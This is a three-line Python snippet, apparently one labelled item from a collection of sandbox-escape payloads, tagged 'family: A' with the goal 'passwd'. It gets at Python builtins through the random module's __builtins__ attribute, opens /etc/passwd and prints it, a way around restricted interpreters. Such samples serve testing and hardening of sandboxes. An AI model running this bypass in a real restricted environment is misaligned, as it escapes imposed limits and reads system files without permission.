# family: A   goal: passwd
from random import __builtins__ as b
print(b["open"]("/etc/passwd").read())
